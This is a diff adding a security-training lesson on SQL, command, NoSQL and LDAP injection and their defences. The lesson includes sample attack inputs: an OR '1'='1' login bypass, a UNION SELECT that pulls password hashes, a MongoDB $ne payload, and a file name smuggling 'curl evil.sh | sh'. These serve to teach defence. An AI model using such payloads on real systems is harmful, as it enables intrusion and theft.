@@ -244,4 +244,134 @@ Application security engineers find these bugs in code review and testing, becau
       },
     ],
   },
+  {
+    key: 'injection-attacks',
+    title: 'Injection Attacks',
+    summary:
+      'See how SQL, command, NoSQL and LDAP injection turn input into code, and stop them with parameterized queries, argument arrays, allowlists and least-privileged database users.',
+    estimatedMinutes: 180,
+    reviewedOn: '2026-11',
+    contentMd: `### What injection is
+An injection bug happens whenever a program builds a piece of *code* for another interpreter (an SQL query, a shell command, a MongoDB filter, an LDAP search, an HTML page) by gluing untrusted text into it. The interpreter cannot tell which characters the developer wrote and which ones came from the user, so a quote, a semicolon or a \`$\` in the input can end the data and start new instructions. The root cause is always the same: **data and code travel in the same string**. The fixes all follow from it: send data through a channel the interpreter never executes (parameters, argument arrays), or, where that is impossible, restrict the input to a known list of values. Injection is A05 in the [OWASP Top 10:2025](https://owasp.org/Top10/2025/A05_2025-Injection/), and in MITRE's 2025 CWE Top 25 of the most dangerous software weaknesses, SQL injection (CWE-89) ranks second, just behind cross-site scripting.
+
+### SQL injection
+Take a login query built with string concatenation, \`"SELECT * FROM users WHERE email = '" + email + "'"\`. An attacker who types \`' OR '1'='1' --\` as the email turns it into \`SELECT * FROM users WHERE email = '' OR '1'='1' --'\`: the \`WHERE\` clause is always true and \`--\` comments out the rest. Depending on the query and the database, the same trick can read other tables with \`UNION SELECT\`, extract data one bit at a time from differences in responses or timing (*blind* SQL injection), change or delete rows, and on a badly configured server even run operating system commands.
+
+The defence is the **parameterized query** (prepared statement): the SQL text with placeholders is sent separately from the values, and the database treats the values as data whatever characters they contain. Every mainstream driver supports it: \`$1, $2\` in node-postgres, \`?\` in mysql2 and Python's \`sqlite3\`, \`%s\` or \`%(name)s\` in psycopg. Escaping quotes by hand is strongly discouraged by the [OWASP SQL Injection Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html): it is easy to get wrong for one character set, one database or one context.
+
+Placeholders only work for *values*. Table names, column names and sort directions cannot be parameters, so map user choices to a fixed allowlist in code: \`const column = { name: 'name', date: 'created_at' }[req.query.sort] ?? 'created_at'\`.
+
+### ORMs and their raw-query escape hatches
+ORMs and query builders (Prisma, Sequelize, Knex, Django ORM, SQLAlchemy) parameterize the queries they generate, which removes most SQL injection. The danger lies in their raw-SQL features, which every one of them has:
+
+- Prisma's \`$queryRaw\` is a tagged template that turns \`\${value}\` into a parameter; \`$queryRawUnsafe\` takes a plain string, so building that string with \`+\` or a normal template literal reintroduces injection.
+- Sequelize's \`sequelize.query()\` is safe with \`replacements\` or \`bind\`, unsafe with an interpolated string.
+- Django's \`.raw()\` and \`cursor.execute()\` are safe when values go in the \`params\` argument, unsafe with an f-string or \`%\` formatting of the SQL itself; SQLAlchemy's \`text()\` is safe with \`:name\` bind parameters.
+
+The rule in code review is simple: any raw-SQL call whose first argument is built from variables is a finding until proven otherwise.
+
+### Command injection
+Calling a shell with user input is the same mistake one level lower. In Node.js, \`\`exec(\`convert \${file} out.png\`)\`\` runs \`/bin/sh -c\`, so a file name like \`a.png; curl evil.sh | sh\` runs two commands. In Python, \`subprocess.run(f"ping -c 1 {host}", shell=True)\` has the same problem; the [Python documentation](https://docs.python.org/3/library/subprocess.html) warns that with \`shell=True\` it is the application's job to quote everything correctly.
+
+OWASP's first defence is to **avoid the OS command**: use a library (an image library instead of \`convert\`, a DNS library instead of \`nslookup\`). If you must run a program, pass an **argument array without a shell**: \`execFile('ping', ['-c', '1', host])\` in Node, \`subprocess.run(['ping', '-c', '1', host])\` in Python. Then \`;\`, \`|\` and \`$( )\` are just characters in one argument. Two traps remain. *Argument injection*: a value starting with \`-\` can still be read as an option (\`--output=/etc/cron.d/x\`), so validate the value and put \`--\` before positional arguments where the program supports it. And \`shell: true\` in Node's \`spawn\` options brings the shell back.
+
+### NoSQL and LDAP injection
+Non-SQL interpreters have their own syntax to inject into:
+
+- **MongoDB operator injection.** \`users.findOne({ email: req.body.email, password: req.body.password })\` looks harmless, but a JSON body can contain objects: \`{"email": "admin@example.com", "password": {"$ne": null}}\` matches any password. Check that each field is a string before it reaches the query (a schema validator such as Zod or Joi does this), or turn on Mongoose's \`sanitizeFilter\` option. Never pass user input to \`$where\`, which runs JavaScript.
+- **LDAP injection.** A filter built as \`(&(uid=\${user})(objectClass=person))\` lets \`*\` match everyone and \`)(\` add new conditions. Escape the special characters \`*\`, \`(\`, \`)\`, \`\\\` and NUL as RFC 4515 defines (for example \`*\` becomes \`\\2a\`), or use the library's filter builder.
+
+### Input validation versus output encoding
+These two are often confused, and you need both. **Input validation** checks at the entry point that data has the expected type, length, format and range: an order quantity is an integer from 1 to 100, a country code is one of a known list. It rejects garbage early and shrinks what attackers can send, but it cannot be the injection defence on its own, because valid data can contain dangerous characters: \`O'Brien\` is a real surname and must be accepted.
+
+**Output encoding** (and its stronger forms, parameterization and argument arrays) happens at the **sink**, where data enters an interpreter, and is specific to that interpreter: SQL parameters for the database, an argument array for processes, HTML encoding for a page, RFC 4515 escaping for LDAP. Validate on the way in, keep data separate from code on the way out. Prefer **allowlists** (what is allowed) to denylists (what is forbidden): attackers are better at finding the character you forgot than you are at listing them.
+
+### Least privilege for the database
+Assume an injection bug will one day slip through, and limit what it can reach. The application should connect as a dedicated database user that owns nothing and can only do what the application needs: \`SELECT\`, \`INSERT\`, \`UPDATE\` on its own tables, read-only for reporting jobs, no \`DROP\`, no \`CREATE\`, and certainly not a superuser. In PostgreSQL a superuser (or a member of \`pg_execute_server_program\`) can run shell commands with \`COPY ... FROM PROGRAM\`, which turns SQL injection into full server compromise. Separate users for separate services also keep one service's bug from exposing another's data, and database views can hide columns, such as password hashes, that a service never needs.
+
+### Worked example
+A Python support tool lets staff search customers. The original code, run against a small SQLite copy of the data:
+
+\`\`\`python
+import sqlite3
+
+db = sqlite3.connect("support.db")
+
+def find_customers(name):
+    # Vulnerable: the name becomes part of the SQL text
+    query = f"SELECT id, name, email FROM customers WHERE name = '{name}'"
+    print(query)
+    return db.execute(query).fetchall()
+
+find_customers("Ana")
+# SELECT id, name, email FROM customers WHERE name = 'Ana'                  -> 1 row
+find_customers("x' OR '1'='1")
+# SELECT id, name, email FROM customers WHERE name = 'x' OR '1'='1'         -> every customer
+find_customers("x' UNION SELECT id, username, password_hash FROM staff --")
+# -> staff password hashes, shown in the customer table
+\`\`\`
+
+The fix passes the value as a parameter and keeps the one dynamic part, the sort column, in an allowlist:
+
+\`\`\`python
+SORTABLE = {"name": "name", "joined": "created_at"}
+
+def find_customers(name, sort="name"):
+    column = SORTABLE.get(sort, "name")                    # identifiers: allowlist
+    query = f"SELECT id, name, email FROM customers WHERE name = ? ORDER BY {column}"
+    return db.execute(query, (name,)).fetchall()           # values: parameters
+\`\`\`
+
+Now \`x' OR '1'='1\` is simply a name nobody has, and zero rows come back. The same service in Node.js with node-postgres:
+
+\`\`\`js
+// Vulnerable
+await pool.query(\`SELECT id, name, email FROM customers WHERE name = '\${name}'\`);
+// Safe: $1 is sent separately from the SQL text
+await pool.query('SELECT id, name, email FROM customers WHERE name = $1', [name]);
+\`\`\`
+
+Finally the team connects the tool as a role that cannot read the \`staff\` table at all:
+
+\`\`\`sql
+CREATE ROLE support_tool LOGIN PASSWORD 'from-the-secret-manager';
+GRANT USAGE ON SCHEMA public TO support_tool;
+GRANT SELECT (id, name, email, created_at) ON customers TO support_tool;
+\`\`\`
+
+Even if a future change reintroduces an injection, the \`UNION SELECT ... FROM staff\` now fails with "permission denied".
+
+### Common mistakes
+- **Escaping or stripping quotes yourself.** Filters miss encodings, numeric contexts (\`id = 1 OR 1=1\` needs no quote) and second-order cases. Use parameters.
+- **Trusting the ORM everywhere.** One \`$queryRawUnsafe\` or \`.raw()\` with an f-string undoes it. Search the code for raw-query calls.
+- **Thinking validation alone is enough.** A free-text field must accept quotes; the sink must keep them harmless.
+- **Parameterizing values but concatenating identifiers.** \`ORDER BY \${req.query.sort}\` is injectable. Map to an allowlist.
+- **\`shell=True\` or \`exec()\` for convenience.** Use argument arrays, or better, a library.
+- **Connecting as the database owner or superuser.** Give each service its own least-privileged role.
+
+### At work
+Injection is found with a mix of tools and reading. Static analysis (Semgrep, CodeQL, SonarQube) flags concatenated queries and \`shell=True\`; dynamic scanners and Burp Suite probe running applications; \`sqlmap\` confirms and demonstrates SQL injection during authorized tests. A junior application security engineer typically triages these findings (is the input really user-controlled? is the call parameterized?), writes the fix or the guidance for the developer, adds a test with a malicious payload, and writes a custom Semgrep rule so the same pattern cannot return. Reviewing database grants for each service, and removing superuser connections, is another common first task.`,
+    resources: [
+      {
+        title: 'OWASP Query Parameterization Cheat Sheet',
+        url: 'https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html',
+        kind: 'docs',
+      },
+      {
+        title: 'OWASP OS Command Injection Defense Cheat Sheet',
+        url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
+        kind: 'docs',
+      },
+      {
+        title: 'Node.js: Child process (execFile and spawn)',
+        url: 'https://nodejs.org/api/child_process.html',
+        kind: 'docs',
+      },
+      {
+        title: 'PortSwigger Web Security Academy: SQL injection (labs)',
+        url: 'https://portswigger.net/web-security/sql-injection',
+        kind: 'interactive',
+      },
+    ],
+  },
 ];
